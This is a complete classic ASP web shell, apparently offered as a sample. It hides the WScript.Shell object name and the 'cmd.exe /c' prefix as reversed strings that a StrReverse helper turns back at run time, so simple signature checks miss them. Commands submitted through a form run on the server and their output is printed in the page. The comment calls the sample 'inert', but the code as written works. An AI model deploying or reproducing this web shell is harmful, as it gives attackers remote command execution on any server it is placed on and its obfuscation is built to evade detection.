<%
' inert sample: the shell object's ProgID kept reversed and turned round by a one-line function of
' the page; the command typed into the form runs through cmd.exe and its output is printed
Function Turn(s)
    Turn = StrReverse(s)
End Function
Dim sh, job, cmd
cmd = Request.Form("line")
If cmd <> "" Then
    Set sh = Server.CreateObject(Turn("llehS.tpircSW"))
    Set job = sh.Exec(Turn("c/ exe.dmc") & " " & cmd)
    Response.Write "<pre>" & Server.HTMLEncode(job.StdOut.ReadAll()) & "</pre>"
End If
%>
<form method="post"><input name="line" size="80"><input type="submit" value="go"></form>
